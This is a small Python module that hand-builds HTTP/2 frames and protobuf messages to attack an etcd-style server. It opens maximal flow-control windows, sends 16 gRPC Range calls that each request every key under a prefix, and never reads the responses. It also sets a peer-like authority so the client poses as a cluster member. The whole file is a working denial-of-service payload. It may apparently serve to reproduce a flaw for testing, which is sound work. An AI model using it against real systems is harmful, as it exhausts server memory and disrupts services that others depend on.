"""HTTP/2 and protobuf by hand: enough to ask for much and read nothing, and to pose as a peer."""

from __future__ import annotations

from struct import pack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CALLS_UNREAD = 16


def questions() -> bytes:
    """A connection's first bytes: many calls, each for all keys under big/, and room to answer."""
    body = field(1, b"big/") + field(2, b"big0")  # key, range_end: all of them
    message = b"\0" + pack(">I", len(body)) + body
    window = 2**31 - 1
    parts = [
        PREFACE,
        _frame(4, 0, 0, pack(">HI", 4, window)),
        _frame(8, 0, 0, pack(">I", window - 65_535)),
    ]
    for stream in range(1, 2 * CALLS_UNREAD, 2):
        parts += [_frame(1, 0x4, stream, _head()), _frame(0, 0x1, stream, message)]
    return b"".join(parts)


def field(number: int, value: bytes) -> bytes:
    """Of a protobuf message; shorter than 128 bytes."""
    return bytes((number << 3 | 2, len(value))) + value


def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return pack(">I", len(payload))[1:] + bytes((kind, flags)) + pack(">I", stream) + payload


def _head() -> bytes:
    fields = (
        (b":method", b"POST"), (b":scheme", b"https"), (b":path", b"/etcdserverpb.KV/Range"),
        (b":authority", b"raftd"), (b"te", b"trailers"), (b"content-type", b"application/grpc"),
    )  # fmt: skip
    return b"".join(
        b"\0" + bytes((len(name),)) + name + bytes((len(value),)) + value for name, value in fields
    )
